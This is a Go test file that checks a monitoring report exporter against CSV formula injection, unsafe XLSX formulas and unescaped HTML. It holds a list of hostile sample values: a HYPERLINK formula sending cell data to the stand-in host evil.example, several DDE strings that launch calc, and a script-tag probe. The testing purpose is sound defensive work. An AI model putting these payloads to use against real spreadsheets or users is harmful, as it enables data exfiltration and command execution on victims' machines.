package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/jianguan/jianguan/internal/report"
	"github.com/jianguan/jianguan/internal/report/promapi"
	"github.com/jianguan/jianguan/internal/simhistory"
	"github.com/jianguan/jianguan/internal/testutil"
	"github.com/jianguan/jianguan/internal/testutil/testenv"
)

// hostileValues are label values that spreadsheets, browsers or parsers
// may take for something else.
var hostileValues = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"点击")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`<script>alert("x")</script>`,
	strings.Repeat("长", 3000),
}

// hostileScenario is the test scenario with hostile values as the lines'
// names and the hosts' units and providers.
func hostileScenario() simhistory.Spec {
	sp := simhistory.TestScenario(2026, time.October, 300*time.Second)
	i := 0
	for _, e := range sp.Entities {
		l := map[string]string{}
		for k, v := range e.Labels {
			l[k] = v
		}
		switch e.NS {
		case "line":
			l["line"] = hostileValues[i%len(hostileValues)] + " #" + string(rune('a'+i))
			l["provider"] = hostileValues[(i+1)%len(hostileValues)]
			i++
		case "host", "website":
			l["unit"] = hostileValues[i%len(hostileValues)]
			l["provider"] = hostileValues[(i+2)%len(hostileValues)]
			i++
		}
		e.Labels = l
	}
	return sp
}

// dangerous reports whether a spreadsheet would take the cell for a
// formula.
func dangerous(v string) bool {
	if v == "" {
		return false
	}
	switch v[0] {
	case '=', '+', '-', '@', '\t', '\r':
		for _, r := range v[1:] {
			if (r < '0' || r > '9') && r != '.' && r != 'e' && r != 'E' && r != '-' && r != '+' {
				return true
			}
		}
		return v[0] == '\t' || v[0] == '\r'
	}
	return false
}

// TestHostile_CSVFormulaInjection: hostile label values from a real
// Prometheus reach the signed report's CSV prefixed with a single quote
// (never as a formula), its XLSX as string cells without formulas, and its
// HTML escaped.
func TestHostile_CSVFormulaInjection(t *testing.T) {
	promtool := testutil.Need(t, "promtool")
	prom := testutil.Need(t, "prometheus")
	sp := hostileScenario()
	dir := filepath.Join(t.TempDir(), "data")
	if err := simhistory.CachedBackfill(context.Background(), promtool, sp, "hostile", dir); err != nil {
		t.Fatal(err)
	}
	q := promapi.New(testenv.StartPrometheus(t, prom, dir))
	cfg := report.DefaultConfig()
	now := time.Date(2026, 11, 29, 0, 0, 0, 0, time.UTC)
	cfg.Now = func() time.Time { return now }
	m, err := report.ParseMonth("2026-10", cfg.Location, now)
	if err != nil {
		t.Fatal(err)
	}
	for _, kind := range []string{report.KindLines, report.KindHosts, report.KindProviders} {
		d, err := report.Build(context.Background(), q, cfg, kind, m)
		if err != nil {
			t.Fatalf("%s: %v", kind, err)
		}
		// CSV: no dangerous cell; every hostile value that reached it is
		// quoted.
		var b bytes.Buffer
		if err := report.RenderCSV(&b, d); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s csv: %v", kind, err)
		}
		quoted := 0
		for _, rec := range recs {
			for _, c := range rec {
				if dangerous(c) {
					t.Errorf("%s csv: formula cell %.60q", kind, c)
				}
				if strings.HasPrefix(c, "'") && dangerous(c[1:]) {
					quoted++
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s csv: no hostile value found quoted (did they reach the report?)", kind)
		}
		// XLSX: hostile cells are strings, and no cell has a formula.
		b.Reset()
		if err := report.RenderXLSX(&b, d); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		strCells := 0
		for _, sh := range f.GetSheetList() {
			rows, _ := f.GetRows(sh)
			for y, row := range rows {
				for x, v := range row {
					cell, _ := excelize.CoordinatesToCellName(x+1, y+1)
					if fm, _ := f.GetCellFormula(sh, cell); fm != "" {
						t.Errorf("%s xlsx %s!%s has a formula %q", kind, sh, cell, fm)
					}
					if dangerous(v) {
						typ, _ := f.GetCellType(sh, cell)
						if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s xlsx %s!%s %.40q is type %v, not a string", kind, sh, cell, v, typ)
						}
						strCells++
					}
				}
			}
		}
		f.Close()
		if strCells == 0 {
			t.Errorf("%s xlsx: no hostile value found", kind)
		}
		// HTML: the script is text.
		b.Reset()
		if err := report.RenderHTML(&b, d); err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(b.Bytes(), []byte(`<script>alert(`)) {
			t.Errorf("%s html: hostile <script> not escaped", kind)
		}
		t.Logf("%s: %d entities, %d quoted CSV cells, %d hostile XLSX string cells", kind, len(d.Entities), quoted, strCells)
	}
}
